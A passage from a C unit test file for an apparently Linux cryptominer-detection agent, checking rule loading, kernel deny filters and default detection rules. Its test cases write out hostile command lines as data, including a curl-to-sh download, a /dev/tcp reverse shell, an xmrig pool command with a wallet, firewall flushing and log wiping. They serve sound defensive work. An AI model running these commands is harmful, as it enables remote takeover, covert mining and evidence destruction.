	assert_int_equal(load_path("a.json", &rs, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "group- or world-writable"));
	/* A directory anyone can drop files into is refused too. */
	write_file("a.json", 0644, "{}");
	assert_int_equal(chmod(tmpdir, 0777), 0);
	assert_int_equal(rules__load(paths, 1, &rs, err, sizeof(err)), -EINVAL);
	assert_int_equal(chmod(tmpdir, 0700), 0);
	assert_non_null(strstr(err, "directory"));
	assert_non_null(strstr(err, "world-writable"));
	assert_int_equal(rules__load(paths, 1, &rs, err, sizeof(err)), 0);
	assert_int_equal(rules__count(rs), 0);
	rules__free(rs);

	/* Over 4 MiB: refused before parsing. */
	snprintf(path, sizeof(path), "%s/big.json", tmpdir);
	f = fopen(path, "w");
	assert_non_null(f);
	fputs("{\"lists\": {\"x\": [", f);
	for (i = 0; i < (4 << 20) / 8; i++)
		fputs("\"xxxxx\",", f);
	fputs("\"x\"]}}", f);
	fclose(f);
	assert_int_equal(chmod(path, 0644), 0);
	assert_int_equal(load_path("big.json", &rs, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "big.json: file too large"));
	rm_file("big.json");

	/* Missing file: the errno comes back. */
	assert_int_equal(load_path("nope.json", &rs, err, sizeof(err)),
			 -ENOENT);
	assert_non_null(strstr(err, "nope.json"));
	rm_file("a.json");
}

/* --- kernel filter derivation and eval callbacks -------------------------- */

struct names_seen {
	char names[16][64];
	int idx[16];
	int n;
};

static void collect_name(const char *name, int rule_idx, void *ctx)
{
	struct names_seen *s = ctx;

	assert_true(s->n < 16);
	snprintf(s->names[s->n], sizeof(s->names[0]), "%s", name);
	s->idx[s->n++] = rule_idx;
}

#define KRULE(id, extra, cond)                                                 \
	"{\"id\": \"" id "\", \"name\": \"n\", \"event\": \"exec\", "          \
	"\"severity\": 90, \"mitre\": {\"techniques\": [\"T1496\"]}, " extra   \
	" \"condition\": " cond "}"

static void test_kernel_filters(void **state)
{
	struct names_seen seen = {0};
	struct rules *rs;
	char err[512];
	int i;

	write_file(
	    "k.json", 0644,
	    "{\"lists\": {\"m\": [\"xmrig\", \"minerd\"]}, \"rules\": ["
	    /* 0: in a list: in the kernel */
	    KRULE("K-0", "\"action\": \"kill\",",
		  "{\"field\": \"process.name\", \"in\": \"@m\"}") ","
	    /* 1: eq, one name too long for the key: partly */
	    KRULE("K-1", "\"action\": \"kill\",",
		  "{\"field\": \"process.name\", \"eq\": [\"kinsing\", "
		  "\"a-name-that-is-longer-than-the-map-key\"]}") ","
	    /* 2: alert: not enforced anywhere */
	    KRULE("K-2", "", "{\"field\": \"process.name\", \"eq\": \"a\"}") ","
	    /* 3: nocase: the kernel compares bytes */
	    KRULE("K-3", "\"action\": \"kill\",",
		  "{\"field\": \"process.name\", \"eq\": \"b\", "
		  "\"nocase\": true}") ","
	    /* 4: exceptions need userspace */
	    KRULE("K-4",
		  "\"action\": \"kill\", \"exceptions\": [{\"field\": "
		  "\"process.user.id\", \"eq\": 0}],",
		  "{\"field\": \"process.name\", \"eq\": \"c\"}") ","
	    /* 5: another field */
	    KRULE("K-5", "\"action\": \"kill\",",
		  "{\"field\": \"process.executable\", \"eq\": \"/d\"}") ","
	    /* 6: a group, even of one */
	    KRULE(
		"K-6", "\"action\": \"kill\",",
		"{\"all\": [{\"field\": \"process.name\", \"eq\": \"e\"}]}") ","
	    /* 7: disabled */
	    KRULE("K-7", "\"action\": \"kill\", \"enabled\": false,",
		  "{\"field\": \"process.name\", \"eq\": \"f\"}") ","
	    /* 8: prefix is not a set of names */
	    KRULE("K-8", "\"action\": \"kill\",",
		  "{\"field\": \"process.name\", \"prefix\": \"g\"}") "]}");
	assert_int_equal(load_path("k.json", &rs, err, sizeof(err)), 0);
	rules__exec_deny_names(rs, collect_name, &seen);
	assert_int_equal(seen.n, 3);
	/* eq/in values are kept sorted */
	assert_string_equal(seen.names[0], "minerd");
	assert_string_equal(seen.names[1], "xmrig");
	assert_string_equal(seen.names[2], "kinsing");
	assert_int_equal(seen.idx[0], 0);
	assert_int_equal(seen.idx[2], 1);
	assert_true(rule__kernel_only(rules__get(rs, 0)));
	for (i = 1; i < rules__count(rs); i++)
		assert_false(rule__kernel_only(rules__get(rs, i)));
	assert_int_equal(rule__action(rules__get(rs, 0)), RULE_ACT_KILL);
	assert_int_equal(rule__action(rules__get(rs, 2)), RULE_ACT_ALERT);
	assert_int_equal(rule__kind(rules__get(rs, 0)), MW_KIND_EXEC);
	assert_false(rule__enabled(rules__get(rs, 7)));
	rules__free(rs);
	rm_file("k.json");
}

/* deny rules feed the same kernel maps as kill rules (and block does not). */
static void test_kernel_filters_deny(void **state)
{
	struct names_seen seen = {0};
	struct rules *rs;
	char err[512];

	write_file(
	    "d.json", 0644,
	    "{\"rules\": ["
	    /* 0: deny by name: in the kernel, refused where BPF-LSM loads */
	    KRULE("D-0", "\"action\": \"deny\",",
		  "{\"field\": \"process.name\", \"in\": [\"xmrig\"]}") ","
	    /* 1: block is for network and file rules, not exec names */
	    KRULE("D-1", "\"action\": \"block\",",
		  "{\"field\": \"process.name\", \"eq\": \"minerd\"}") ","
	    /* 2: deny with exceptions: userspace (falls back to a kill) */
	    KRULE("D-2",
		  "\"action\": \"deny\", \"exceptions\": [{\"field\": "
		  "\"process.user.id\", \"eq\": 0}],",
		  "{\"field\": \"process.name\", \"eq\": \"c\"}") "]}");
	assert_int_equal(load_path("d.json", &rs, err, sizeof(err)), 0);
	rules__exec_deny_names(rs, collect_name, &seen);
	assert_int_equal(seen.n, 1);
	assert_string_equal(seen.names[0], "xmrig");
	assert_int_equal(seen.idx[0], 0);
	assert_int_equal(rule__action(rules__get(rs, 0)), RULE_ACT_DENY);
	assert_string_equal(rule_action__str(RULE_ACT_DENY), "deny");
	assert_true(rule__kernel_only(rules__get(rs, 0)));
	assert_false(rule__kernel_only(rules__get(rs, 2)));
	rules__free(rs);
	rm_file("d.json");
}

/*
 * Whether the kernel cuts stratum flows: any enabled kill, block or deny
 * net rule that holds for a stratum login as the kernel sees it (no port,
 * no process details), exceptions aside.
 */
#define NRULE(extra, cond)                                                     \
	"{\"rules\": [{\"id\": \"N-1\", \"name\": \"n\", \"event\": \"net\", " \
	"\"severity\": 90, \"mitre\": {\"techniques\": [\"T1496\"]}, " extra   \
	" \"condition\": " cond "}]}"

static const struct {
	const char *file;
	bool cuts;
} stratum_cases[] = {
    {NRULE("\"action\": \"kill\",", "{\"field\": \"event.action\", "
				    "\"eq\": \"stratum\"}"),
     true},
    {NRULE("\"action\": \"block\",", "{\"field\": "
				     "\"minerwatch.net.stratum.method\", "
				     "\"eq\": \"login\"}"),
     true},
    {NRULE("\"action\": \"deny\",", "{\"field\": "
				    "\"minerwatch.net.stratum.agent\", "
				    "\"prefix\": \"xmr\", \"nocase\": true}"),
     true},
    /* exceptions name processes: the kernel cannot tell them apart */
    {NRULE("\"action\": \"kill\", \"exceptions\": [{\"field\": "
	   "\"event.action\", \"eq\": \"stratum\"}],",
	   "{\"field\": \"event.action\", \"eq\": \"stratum\"}"),
     true},
    {NRULE("\"action\": \"kill\",",
	   "{\"not\": {\"field\": \"minerwatch.net.stratum.method\", "
	   "\"eq\": \"mining.subscribe\"}}"),
     true},
    {NRULE("", "{\"field\": \"event.action\", \"eq\": \"stratum\"}"), false},
    {NRULE("\"action\": \"kill\", \"enabled\": false,",
	   "{\"field\": \"event.action\", \"eq\": \"stratum\"}"),
     false},
    /* what the kernel sees has no port */
    {NRULE("\"action\": \"block\",",
	   "{\"field\": \"destination.port\", \"eq\": 3333}"),
     false},
    {"{\"rules\": [" KRULE(
	 "E-1", "\"action\": \"kill\",",
	 "{\"field\": \"process.name\", \"eq\": \"xmrig\"}") "]}",
     false},
};

static void test_kernel_stratum_cut(void **state)
{
	struct rules *rs;
	char err[512];
	size_t i;

	assert_false(rules__cuts_stratum(NULL));
	for (i = 0; i < sizeof(stratum_cases) / sizeof(stratum_cases[0]); i++) {
		write_file("s.json", 0644, "%s", stratum_cases[i].file);
		if (load_path("s.json", &rs, err, sizeof(err)))
			fail_msg("case %zu: %s", i, err);
		if (rules__cuts_stratum(rs) != stratum_cases[i].cuts)
			fail_msg("case %zu: expected %d", i,
				 stratum_cases[i].cuts);
		rules__free(rs);
	}
	rm_file("s.json");
}

struct hits {
	int idx[8];
	int n, stop_after;
};

static int on_match(const struct rule *r, int idx, const struct mw_event *ev,
		    void *ctx)
{
	struct hits *h = ctx;

	h->idx[h->n++] = idx;
	return h->stop_after && h->n >= h->stop_after;
}

static void test_eval_and_accessors(void **state)
{
	struct hits h = {0};
	struct rules *rs;
	struct tev t;
	char err[512];
	const char *const *techs;
	int n;

	write_file(
	    "e.json", 0644,
	    "{\"rules\": [{\"id\": \"E-1\", \"name\": \"One\", "
	    "\"description\": \"why\", \"event\": \"exec\", "
	    "\"severity\": 70, \"action\": \"block\", \"mitre\": "
	    "{\"tactic\": \"Impact\", \"techniques\": [\"T1496\", "
	    "\"T1053.003\"]}, \"condition\": " NAME_EQ "}, "
	    "" ONE_RULE(
		"E-2",
		"{\"field\": \"process.pid\", \"eq\": "
		"4242}") ", "
			 "" ONE_RULE(
			     "E-3",
			     "{\"field\": \"process.user.id\", "
			     "\"eq\": 0}") ", "
					   "" ONE_RULE(
					       "E-4",
					       "{\"field\": \"process.name\", "
					       "\"eq\": \"xmrig\"}") "]}");
	assert_int_equal(load_path("e.json", &rs, err, sizeof(err)), 0);
	assert_string_equal(rule__name(rules__get(rs, 0)), "One");
	assert_string_equal(rule__description(rules__get(rs, 0)), "why");
	assert_string_equal(rule__description(rules__get(rs, 1)), "");
	assert_string_equal(rule__tactic(rules__get(rs, 0)), "Impact");
	assert_null(rule__tactic(rules__get(rs, 1)));
	assert_int_equal(rule__severity(rules__get(rs, 0)), 70);
	assert_int_equal(rule__action(rules__get(rs, 0)), RULE_ACT_BLOCK);
	techs = rule__techniques(rules__get(rs, 0), &n);
	assert_int_equal(n, 2);
	assert_string_equal(techs[1], "T1053.003");
	assert_string_equal(rule_action__str(RULE_ACT_KILL), "kill");
	assert_string_equal(rule_action__str(RULE_ACT_ALERT), "alert");
	assert_string_equal(rule_action__str(RULE_ACT_BLOCK), "block");

	assert_int_equal(rules__eval(rs, std_event(&t), on_match, &h), 3);
	assert_int_equal(h.n, 3);
	assert_int_equal(h.idx[0], 1);
	assert_int_equal(h.idx[2], 3);
	/* A non-zero return stops the walk. */
	memset(&h, 0, sizeof(h));
	h.stop_after = 1;
	assert_int_equal(rules__eval(rs, std_event(&t), on_match, &h), 1);
	assert_int_equal(rules__eval(NULL, std_event(&t), on_match, &h), 0);
	rules__free(rs);
	rules__free(NULL);
	rm_file("e.json");
}

static void test_fields_table(void **state)
{
	int i, j;

	assert_true(fields__count() > 20);
	for (i = 0; i < fields__count(); i++) {
		const struct field *f = fields__at(i);

		assert_ptr_equal(fields__find(f->name), f);
		assert_true(f->str || f->list || f->num);
		for (j = 0; j < i; j++)
			assert_string_not_equal(fields__at(j)->name, f->name);
	}
	assert_null(fields__find("process.nmae"));
	assert_null(fields__at(-1));
	assert_string_equal(field_type__str(FIELD_STRS), "string list");
}

/* --- the default rules ------------------------------------------------------
 */

#define WALLET                                                                 \
	"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1"  \
	"j8nLwEVsaSWJ4fhdUyZijBGUicoD"

struct dcase {
	const char *what;
	const char *exe, *args, *cwd;
	const char *exec_path;	  /* NULL: same as exe */
	const char *pexe, *pargs; /* parent, NULL: unknown */
	const char *anc;	  /* ancestor exes beyond the parent, '|' */
	uint32_t flags;
	const char *want; /* matching rule ids, sorted, ',' */
};

static const struct dcase dcases[] = {
    /* Hostile: the incidents and their usual variants. */
    {"SSH incident: cron restarts xmrig in /root/.bashtemp",
     "/root/.bashtemp/xmrig",
     "./xmrig|-o|stratum+tcp://pool.minexmr.com:4444|-u|" WALLET
     "|--donate-level=1",
     "/root/.bashtemp", NULL, "/usr/bin/bash", "bash|-c|/root/.bashtemp/run.sh",
     "/usr/sbin/cron|/sbin/init", 0,
     "MW-EXEC-001,MW-EXEC-002,MW-MINER-001,MW-MINER-002,MW-MINER-003,"
     "MW-MINER-005,MW-MINER-006"},
    {"SSH incident: the cron restart script itself (#! script)",
     "/usr/bin/bash", "/bin/bash|/root/.bashtemp/run.sh", "/root",
     "/root/.bashtemp/run.sh", "/usr/bin/dash",
     "/bin/sh|-c|/root/.bashtemp/run.sh", "/usr/sbin/cron|/sbin/init", 0,
     "MW-EXEC-001,MW-EXEC-002"},
    {"renamed xmrig with rx/0 and thread hint", "/usr/local/bin/sysd",
     "sysd|--algo=rx/0|-o|xmr.example.net:3333|-u|x|"
     "--cpu-max-threads-hint=75",
     "/", NULL, "/usr/bin/dash", "sh", "/usr/sbin/sshd", 0,
     "MW-MINER-003,MW-MINER-004"},
    {"dropper kills competitors (sh -c)", "/usr/bin/pkill",
     "pkill|-f|kdevtmpfsi", "/", NULL, "/usr/bin/dash",
     "sh|-c|pkill -f kdevtmpfsi; pkill -f xmrig", "/usr/sbin/cron", 0,
     "MW-EVASION-002"},
    {"dropper stops the security agent", "/usr/bin/systemctl",
     "systemctl|stop|aliyun.service", "/", NULL, "/usr/bin/bash",
     "bash|/tmp/.x/init.sh", NULL, 0, "MW-EVASION-001"},
    {"cron entry: curl | sh", "/usr/bin/dash",
     "/bin/sh|-c|curl -fsSL http://203.0.113.9/ldr.sh " PIPE " sh", "/root",
     NULL, "/usr/sbin/cron", "/usr/sbin/CRON|-f", NULL, 0, "MW-EVASION-004"},
    {"base64 payload to bash", "/usr/bin/bash",
     "bash|-c|echo Y3VybCBodHRwOi8veA== " PIPE " base64 -d " PIPE " bash", "/",
     NULL, "/usr/bin/bash", "bash", NULL, 0, "MW-EVASION-005"},
    {"reverse shell over /dev/tcp", "/usr/bin/bash",
     "bash|-c|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/", NULL,
     "/usr/bin/dash", "sh", NULL, 0, "MW-EVASION-006"},
    /* Debian 12: modprobe runs kmod, iptables xtables-nft-multi. */
    {"xmrig loads the msr module", "/usr/bin/kmod",
     "/sbin/modprobe|msr|allow_writes=on", "/", "/sbin/modprobe",
     "/usr/bin/dash",
     "sh|-c|/sbin/modprobe msr allow_writes=on > /dev/null 2>&1", NULL, 0,
     "MW-MINER-008"},
    {"logs vacuumed by hand", "/usr/bin/journalctl",
     "journalctl|--vacuum-time=1s", "/", NULL, "/usr/bin/bash", "bash", NULL, 0,
     "MW-FORENSICS-001"},
    {"setenforce 0 and firewall flushed", "/usr/sbin/xtables-nft-multi",
     "iptables|-F", "/", "/usr/sbin/iptables", "/usr/bin/bash", "bash|/tmp/i.sh", NULL, 0, "MW-EVASION-003"},
    {"minerd from /tmp with cryptonight over stratum+ssl", "/tmp/minerd",
     "minerd|-a|cryptonight|-o|stratum+ssl://x.example:443", "/tmp", NULL,
     "/usr/bin/bash", "bash", "/usr/sbin/sshd", 0,
     "MW-EXEC-003,MW-MINER-001,MW-MINER-002,MW-MINER-004"},
    {"stratum2 URL in --url=", "/opt/app/run",
     "run|--url=stratum2+tcp://x.example:3333", "/", NULL, NULL, NULL, NULL, 0,
     "MW-MINER-002"},
    {"--coin with -o", "/opt/x/app", "app|--coin|monero|-o|x.example:3333", "/",
     NULL, NULL, NULL, NULL, 0, "MW-MINER-005"},
    {"pool login without stratum", "/opt/x/app",
     "app|-o|pool.supportxmr.com:443|-u|worker1|-p|x", "/", NULL, NULL, NULL,
     NULL, 0, "MW-MINER-005"},
    {"miner hidden in /tmp/.X11-unix named like a kernel thread",
     "/tmp/.X11-unix/kswapd0", "kswapd0", "/tmp", NULL, "/usr/bin/bash", "bash",
     NULL, 0, "MW-EXEC-001,MW-EXEC-003,MW-EXEC-004,MW-EXEC-007"},
    {"payload run from /dev/shm", "/dev/shm/x", "./x", "/dev/shm", NULL,
     "/usr/bin/bash", "bash", NULL, 0, "MW-EXEC-004"},
    {"fileless miner from a memfd", "/memfd:x (deleted)", "x", "/", NULL,
     "/usr/bin/python3", "python3|-c|...", NULL,
     MW_PROC_MEMFD | MW_PROC_DELETED, "MW-EXEC-005"},
    /* Sealed self-clones: low severity only when sealed, root and named so. */
    {"runc's sealed self-clone", "/memfd:runc_cloned:/proc/self/exe", "runc|init",
     "/", NULL, "/usr/bin/runc", "runc|init", NULL,
     MW_PROC_MEMFD | MW_PROC_MEMFD_SEALED | MW_PROC_DELETED, "MW-EXEC-008"},
    {"a sandbox's sealed-<hex> clone", "/memfd:sealed-91173221a7ea (deleted)",
     "line_io_tools/binary_backend", "/", NULL, NULL, NULL, NULL,
     MW_PROC_MEMFD | MW_PROC_MEMFD_SEALED | MW_PROC_DELETED, "MW-EXEC-008"},
    {"unsealed memfd named like runc's clone",
     "/memfd:runc_cloned:/proc/self/exe", "x", "/", NULL, "/usr/bin/bash",
     "bash", NULL, MW_PROC_MEMFD | MW_PROC_DELETED, "MW-EXEC-005"},
    {"sealed memfd under another name", "/memfd:kworker", "x", "/", NULL,
     "/usr/bin/bash", "bash", NULL,
     MW_PROC_MEMFD | MW_PROC_MEMFD_SEALED | MW_PROC_DELETED, "MW-EXEC-005"},
    {"executable deleted at exec", "/usr/local/bin/upd", "upd", "/", NULL,
     "/usr/bin/bash", "bash", NULL, MW_PROC_DELETED, "MW-EXEC-006"},
    {"argv0 disguised as a kworker", "/var/lib/x/worker",
     "[kworker/0:1]|-c|cfg", "/", NULL, "/usr/bin/bash", "bash", NULL, 0,
     "MW-EXEC-007"},
    {"file named like a kernel thread", "/opt/[kthreadd]", "[kthreadd]", "/",
     NULL, NULL, NULL, NULL, 0, "MW-EXEC-007"},
    {"kinsing's kdevtmpfsi in /tmp", "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi",
     "/tmp", NULL, "/usr/bin/dash", "sh", NULL, 0,
     "MW-EXEC-003,MW-EXEC-007,MW-MINER-001"},
    {"miner campaign payload name", "/usr/bin/networkservice", "networkservice",
     "/", NULL, NULL, NULL, NULL, 0, "MW-MINER-007"},
    {"RDP incident: masscan outward", "/usr/bin/masscan",
     "masscan|-p445|10.0.0.0/8|--rate=100000", "/root", NULL, "/usr/bin/bash",
     "bash", NULL, 0, "MW-RECON-001"},
    {"masscan under another name", "/usr/local/bin/httpd",
     "httpd|-p445|0.0.0.0/0|--rate|50000", "/", NULL, NULL, NULL, NULL, 0,
     "MW-RECON-002"},
    {"zmap", "/usr/sbin/zmap", "zmap|-p|445", "/", NULL, NULL, NULL, NULL, 0,
     "MW-RECON-001"},
    {"nmap (low severity)", "/usr/bin/nmap", "nmap|-sS|10.0.0.0/24", "/", NULL,
     NULL, NULL, NULL, 0, "MW-RECON-003"},
    {"hydra", "/usr/bin/hydra", "hydra|-l|root|-P|pw.txt|ssh://10.0.0.5", "/",
     NULL, NULL, NULL, NULL, 0, "MW-RECON-004"},
    {"patator through python", "/usr/bin/python3.12",
     "python3|/opt/patator/patator.py|ssh_login|host=10.0.0.1", "/",
     "/opt/patator/patator.py", NULL, NULL, NULL, 0, "MW-RECON-004"},

    {"Monero subaddress", "/opt/x/app",
     "app|--wallet|8BnERTpvL5MbCLtj5n9No7J5oE5hHiB3tVCK5cjSvCsYWD2WRJ"
     "LFuWeKDgnbo1KdHbFCbTg7pKsqm3XAfSfzfnyuYJXo6Wn",
     "/", NULL, NULL, NULL, NULL, 0, "MW-MINER-006"},
    {"Monero integrated address", "/opt/x/app", "app|-u|" WALLET "abcdefghijk",
     "/", NULL, NULL, NULL, NULL, 0, "MW-MINER-006"},
    /* Benign admin and developer work: must stay quiet. */
    {"ls", "/usr/bin/ls", "ls|-la", "/home/dev", NULL, "/usr/bin/bash", "-bash",
     "/usr/sbin/sshd", 0, ""},
    {"grep for a pool URL in logs", "/usr/bin/grep",
     "grep|-r|stratum+tcp://|/var/log", "/", NULL, "/usr/bin/bash", "bash",
     NULL, 0, ""},
    {"git commit mentioning miners", "/usr/bin/git",
     "git|commit|-m|block cryptonight, --donate-level and stratum+tcp:// "
     "pools, wallet " WALLET,
     "/src", NULL, NULL, NULL, NULL, 0, ""},
    {"pkill a miner", "/usr/bin/pkill", "pkill|-f|xmrig", "/", NULL, NULL, NULL,
     NULL, 0, ""},
    {"admin pkill from an interactive shell", "/usr/bin/pkill",
     "pkill|-9|kdevtmpfsi", "/root", NULL, "/usr/bin/bash", "-bash",
     "/usr/sbin/sshd", 0, ""},
    {"admin stops nginx", "/usr/bin/systemctl", "systemctl|stop|nginx", "/",
     NULL, "/usr/bin/bash", "-bash", NULL, 0, ""},
    {"admin curls a page", "/usr/bin/curl", "curl|-fsSL|https://example.org/",
     "/", NULL, "/usr/bin/bash", "-bash", NULL, 0, ""},
    {"modprobe a filesystem", "/usr/bin/kmod", "modprobe|ext4", "/",
     "/usr/sbin/modprobe", "/usr/bin/bash", "-bash", NULL, 0, ""},
    {"journalctl reading logs", "/usr/bin/journalctl", "journalctl|-u|ssh", "/",
     NULL, "/usr/bin/bash", "-bash", NULL, 0, ""},
    {"nc as a client", "/usr/bin/nc", "nc|-zv|10.0.0.1|22", "/", NULL,
     "/usr/bin/bash", "-bash", NULL, 0, ""},
    {"cargo from ~/.cargo/bin", "/home/dev/.cargo/bin/cargo", "cargo|build",
     "/home/dev/src", NULL, NULL, NULL, NULL, 0, ""},
    {"rustc from ~/.rustup",
     "/home/dev/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/"
     "rustc",
     "rustc|--crate-name|x", "/home/dev/src", NULL,
     "/home/dev/.cargo/bin/"
     "cargo",
     "cargo", NULL, 0, ""},
    {"script in ~/.local/bin", "/usr/bin/python3.12",
     "/usr/bin/python3|/home/dev/.local/bin/poetry|install", "/home/dev",
     "/home/dev/.local/bin/poetry", NULL, NULL, NULL, 0, ""},
    {"node from nvm", "/home/dev/.nvm/versions/node/v20.11.0/bin/node",
     "node|server.js", "/home/dev/app", NULL, NULL, NULL, NULL, 0, ""},
    {"node_modules/.bin script",
     "/home/dev/.nvm/versions/node/v20.11.0/bin/node",
     "node|/home/dev/app/node_modules/.bin/tsc", "/home/dev/app",
     "/home/dev/app/node_modules/.bin/tsc", NULL, NULL, NULL, 0, ""},
    {"VS Code remote server", "/home/dev/.vscode-server/bin/abc123/node",
     "node|--max-old-space-size=3072|server-main.js", "/home/dev", NULL, NULL,
     NULL, NULL, 0, ""},
    {"git hook", "/usr/bin/bash", "bash|.git/hooks/pre-commit", "/home/dev/src",
     "/home/dev/src/.git/hooks/pre-commit", "/usr/bin/git", "git|commit", NULL,
     0, ""},
    {"python in a .venv", "/home/dev/src/.venv/bin/python", "python|-m|pytest",
     "/home/dev/src", NULL, NULL, NULL, NULL, 0, ""},
    {"pyenv shim", "/usr/bin/bash", "bash|/home/dev/.pyenv/shims/python",
     "/home/dev", "/home/dev/.pyenv/shims/python", NULL, NULL, NULL, 0, ""},
    {"docker compose plugin", "/home/dev/.docker/cli-plugins/docker-compose",
     "docker-compose|compose|up", "/home/dev", NULL, "/usr/bin/docker",
     "docker|compose|up", NULL, 0, ""},
    {"cron job in ~/.local/bin", "/usr/bin/bash",
     "/bin/bash|/home/dev/.local/bin/backup.sh", "/home/dev",
     "/home/dev/.local/bin/backup.sh", "/usr/bin/dash",
     "/bin/sh|-c|~/.local/bin/backup.sh", "/usr/sbin/cron", 0, ""},
    {"cron.daily", "/usr/bin/run-parts", "run-parts|/etc/cron.daily", "/", NULL,
     "/usr/bin/dash", "/bin/sh|-c|run-parts /etc/cron.daily", "/usr/sbin/cron",
     0, ""},
    {"go test binary in /tmp", "/tmp/go-build123/b001/pkg.test",
     "/tmp/go-build123/b001/pkg.test|-test.v", "/home/dev/src", NULL,
     "/usr/local/go/bin/go", "go|test|./...", NULL, 0, ""},
    {"make check running a test from /tmp", "/tmp/build-x/test_foo",
     "./test_foo", "/tmp/build-x", NULL, "/usr/bin/dash", "/bin/sh|-c|...",
     "/usr/bin/make|/usr/bin/bash", 0, ""},
    {"configure's conftest", "/home/dev/src/pkg/conftest", "./conftest",
     "/home/dev/src/pkg", NULL, "/usr/bin/dash", "/bin/sh|./configure", NULL, 0,
     ""},
    {"dpkg maintainer script", "/usr/bin/dash",
     "/bin/sh|/var/lib/dpkg/info/foo.postinst|configure", "/",
     "/var/lib/dpkg/info/foo.postinst", "/usr/bin/dpkg", "dpkg|--configure",
     "/usr/bin/apt", 0, ""},
    {"apt hook helper in /tmp", "/tmp/apt-dpkg-install-x/helper", "helper", "/",
     NULL, "/usr/bin/dpkg", "dpkg", "/usr/bin/apt", 0, ""},
    /* Exceptions go by system program, never by a name alone. */
    {"payload under a 'make' copied to /tmp", "/tmp/payload", "payload", "/tmp",
     NULL, "/usr/bin/dash", "sh", "/tmp/make", 0, "MW-EXEC-003"},
    {"payload run by a 'dpkg' in /tmp", "/tmp/p", "p", "/", NULL, "/tmp/dpkg",
     "dpkg", "/usr/bin/bash", 0, "MW-EXEC-003"},
    {"runc memfd clone at container start",
     "/memfd:runc_cloned:/proc/self/exe (deleted)", "runc|init", "/", NULL,
     "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2", NULL,
     MW_PROC_MEMFD | MW_PROC_DELETED, ""},
    {"zpool with -o", "/usr/sbin/zpool",
     "zpool|create|-o|ashift=12|tank|mirror|sda|sdb", "/", NULL, NULL, NULL,
     NULL, 0, ""},
    {"ssh with -o", "/usr/bin/ssh",
     "ssh|-o|ProxyJump=pool.example.org:22|-u|x|host", "/", NULL, NULL, NULL,
     NULL, 0, ""},
    {"mount -o", "/usr/bin/mount", "mount|-o|remount,rw|/", "/", NULL, NULL,
     NULL, NULL, 0, ""},
    {"curl with a bearer token", "/usr/bin/curl",
     "curl|-H|Authorization: Bearer "
     "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwib"
     "mFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fw"
     "pMeJf36POk6yJV_adQssw5c|https://api.example.com",
     "/", NULL, NULL, NULL, NULL, 0, ""},
    {"monero node", "/usr/bin/monerod", "monerod|--detach", "/", NULL, NULL,
     NULL, NULL, 0, ""},
    {"iperf3 with a port", "/usr/bin/iperf3", "iperf3|-c|10.0.0.1|-p|5201", "/",
     NULL, NULL, NULL, NULL, 0, ""},
    {"systemd-sysupdate is not sysupdate",
     "/usr/lib/systemd/"
     "systemd-sysupdate",
     "systemd-sysupdate|update", "/", NULL, NULL, NULL, NULL, 0, ""},
    {"npm test running a binary from /tmp", "/tmp/jest-x/helper", "helper",
     "/home/dev/app", NULL, "/usr/bin/dash", "sh|-c|jest",
     "/usr/bin/node>/usr/bin/npm|/usr/bin/bash", 0, ""},
    {"mkinitramfs hook from /var/tmp", "/var/tmp/mkinitramfs_x/bin/busybox",
     "busybox|true", "/", NULL, "/usr/bin/dash", "sh",
     "/usr/bin/dash>/usr/sbin/mkinitramfs|/usr/bin/dash>/usr/sbin/"
     "update-initramfs",
     0, ""},
    {"an app's own 'migration' job", "/app/bin/migration", "migration|up",
     "/app", NULL, NULL, NULL, NULL, 0, ""},
    {"wallet one character too long is not a wallet", "/opt/x/app",
     "app|-u|" WALLET "a", "/", NULL, NULL, NULL, NULL, 0, ""},
    {"kernel-version script in /usr", "/usr/sbin/update-initramfs",
     "update-initramfs|-u", "/", NULL, NULL, NULL, NULL, 0, ""},
};

static const char *rules_dir(void)
{
	const char *d = getenv("MW_RULES_DIR");

	return d ? d : "rules";
}

struct ids {
	char buf[1024];
};

static int collect_id(const struct rule *r, int idx, const struct mw_event *ev,
		      void *ctx)
{
	struct ids *ids = ctx;

	if (ids->buf[0])
		strcat(ids->buf, ",");
	strcat(ids->buf, rule__id(r));
	return 0;
}

static int str_cmp(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Sort a ',' list in place so the comparison ignores rule order. */
static void sort_ids(char *s)
{
	char copy[1024], *tok[32], *p = copy;
	int n = 0, i;

	snprintf(copy, sizeof(copy), "%s", s);
	while (n < 32 && (tok[n] = strsep(&p, ",")) && tok[n][0])
		n++;
	qsort(tok, n, sizeof(*tok), str_cmp);
	s[0] = '\0';
	for (i = 0; i < n; i++) {
		strcat(s, i ? "," : "");
		strcat(s, tok[i]);
	}
}

static void build_dcase(struct tev *t, const struct dcase *c)
{
	char ancs[512], *p = ancs, *tok;
	int n = 0;

	memset(t, 0, sizeof(*t));
	tproc_set(&t->self, c->exe, c->args, c->cwd);
	if (c->exec_path) {
		snprintf(t->self.exec_path, sizeof(t->self.exec_path), "%s",
			 c->exec_path);
		t->self.p.name = proc_name__pick(&t->self.p);
	}
	t->self.p.flags = c->flags;
	if (c->pexe)
		tproc_set(&t->parent, c->pexe, c->pargs, "/");
	snprintf(ancs, sizeof(ancs), "%s", c->anc ? c->anc : "");
	/* "exe>script" gives an ancestor that is a #! script. */
	while (n < 4 && (tok = strsep(&p, "|")) && tok[0]) {
		char *script = strchr(tok, '>');

		if (script)
			*script++ = '\0';
		tproc_set(&t->anc[n], tok, NULL, "/");
		if (script) {
			snprintf(t->anc[n].exec_path,
				 sizeof(t->anc[n].exec_path), "%s", script);
			t->anc[n].p.name = proc_name__pick(&t->anc[n].p);
		}
		n++;
	}
	tev_wire(t, c->pexe != NULL, n);
}

static void test_default_rules(void **state)
{
	const char *paths[1] = {rules_dir()};
	struct rules *rs;
	char err[512], want[1024];
	struct ids ids;
	struct tev t;
	size_t i;
	int bad = 0;

	if (rules__load(paths, 1, &rs, err, sizeof(err)))
		fail_msg("loading %s: %s", paths[0], err);
